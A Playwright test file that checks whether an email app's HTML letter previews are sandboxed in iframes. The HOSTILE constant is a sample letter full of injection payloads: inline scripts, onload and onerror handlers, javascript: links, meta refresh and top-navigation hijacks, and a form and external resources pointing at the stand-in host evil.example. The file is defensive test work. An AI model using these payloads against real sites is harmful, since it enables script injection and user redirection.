"""Letters in frames: nothing of them runs or leads away, and what is typed is shown at once."""
import pytest
from playwright.sync_api import expect

from tests.demo_site import log_in

CLICK = "element => element.click()"  # by the mouse it would be missed: the frame is made smaller
HACKED = "top.document.title = parent.document.title = 'HACKED'; alert('HACKED')"
HOSTILE = f"""<!doctype html><html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<script>{HACKED}; top.location = 'https://evil.example/top'</script>
<script src="https://evil.example/x.js"></script>
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import url(https://evil.example/y.css); p {{ color: rgb(1, 2, 3) }}</style></head>
<body onload="{HACKED}"><p>Letter</p><img src="data:,x" onerror="{HACKED}">
<a id="js" href="javascript:{HACKED}">js</a> <a id="away" href="https://evil.example/away">away</a>
<a id="top" href="https://evil.example/top" target="_top">top</a>
<form action="https://evil.example/form"><input name="q"><button id="send">send</button></form>
<iframe src="https://evil.example/inner"></iframe><object data="https://evil.example/o"></object>
<svg onload="{HACKED}"></svg></body></html>"""


def hostile(route):
    """Answer with our own headers, as if nothing had been cleaned out of the letter."""
    ours = route.fetch()
    head = ours.text().split(">", 1)[0] + ">"
    assert head.lower().startswith("<!doctype")
    route.fulfill(response=ours, body=HOSTILE)


def test_nothing_of_a_letter_runs_or_leads_away(open_page, site):
    page = log_in(open_page(), site)
    asked, opened = [], []
    page.on("response", lambda answer: asked.append(answer.url))
    page.on("dialog", lambda dialog: opened.append(dialog.message) or dialog.dismiss())
    page.context.on("page", lambda new: opened.append(new.url))
    page.route("**/preview/letter/**", hostile)
    page.goto(f"{site}/messages/1/")
    letter = page.frame_locator("iframe")
    expect(letter.locator("p")).to_have_css("color", "rgb(1, 2, 3)")
    title = page.title()
    for link in ("#js", "#send"):
        letter.locator(link).evaluate(CLICK)
    page.wait_for_timeout(300)
    assert page.title() == title and page.url == f"{site}/messages/1/"
    assert opened == [] and not [url for url in asked if "evil.example" in url]
    of_our_page = [words for words in open_page.complaints if "default-src 'self'" in words]
    assert of_our_page == []
    open_page.complaints.clear()  # what the browser says of the letter


def test_a_letter_that_is_opened_by_its_own_address_is_as_harmless(open_page, site):
    page = log_in(open_page(), site)
    opened = []
    page.on("dialog", lambda dialog: opened.append(dialog.message) or dialog.dismiss())
    page.route("**/preview/letter/**", hostile)
    page.goto(f"{site}/messages/1/preview/letter/")
    expect(page.locator("p")).to_have_text("Letter")
    page.wait_for_timeout(200)
    assert opened == [] and page.title() != "HACKED" and page.url.startswith(site)
    open_page.complaints.clear()


def test_links_of_a_letter_do_nothing_in_its_preview(open_page, site):
    page = log_in(open_page(), site)
    page.goto(f"{site}/messages/create/?kind=html")
    page.fill("[name=source]", "<p><a href='/logout/'>in</a> <a href='https://x.example' "
                               "target=_top>out</a></p>")
    letter = page.frame_locator("iframe")
    for link in ("in", "out"):
        letter.get_by_text(link, exact=True).evaluate(CLICK)
    page.wait_for_timeout(200)
    expect(letter.get_by_text("out", exact=True)).to_be_visible()
    assert page.url.endswith("/messages/create/?kind=html")
    open_page.complaints.clear()  # that no window was opened


def test_what_is_typed_is_shown_and_is_no_step_back(open_page, site):
    page = log_in(open_page(), site)
    page.goto(f"{site}/messages/create/?kind=html")
    steps = page.evaluate("history.length")
    letter = page.frame_locator("iframe")
    for words in ("Первое", "Второе"):
        page.fill("[name=source]", f"<h1>{words}, {{почта}}</h1>")
        expect(letter.locator("h1")).to_contain_text(f"{words}, ")
    page.click(".app-views a:has-text('Телефон')")
    expect(page.locator(".app-stage-phone")).to_be_visible()
    expect(letter.locator("h1")).to_contain_text("Второе, ")
    assert page.evaluate("history.length") == steps
    shown = letter.locator("h1").inner_text()
    page.click("#letter-frame .app-letter-turn a")
    expect(letter.locator("h1")).not_to_have_text(shown)
    expect(page.locator("[data-draft-status]")).to_contain_text("Черновик сохранён")


def test_a_wide_letter_is_shown_whole_in_a_narrow_place(open_page, site):
    page = log_in(open_page(viewport={"width": 390, "height": 844}), site)
    page.goto(f"{site}/messages/1/")
    frame = page.locator("iframe").bounding_box()
    assert frame["x"] >= 0 and frame["x"] + frame["width"] <= 390
    width = page.evaluate("document.querySelector('iframe').clientWidth")
    assert width == pytest.approx(640, abs=2)


def test_without_a_script_the_letter_is_shown_in_every_way(open_page, site):
    page = log_in(open_page(), site)
    bare = open_page(java_script_enabled=False)
    bare.context.add_cookies(page.context.cookies())
    bare.goto(f"{site}/messages/1/preview/")
    bare.click("#letter-after")
    bare.click(".app-tabs a:has-text('Размер')")
    expect(bare.locator("progress")).to_be_visible()
    bare.goto(f"{site}/messages/create/?kind=html")
    bare.fill("[name=source]", "<h1>Без скриптов</h1>")
    bare.click("[data-letter-show]")
    expect(bare.frame_locator("iframe").locator("h1")).to_have_text("Без скриптов")
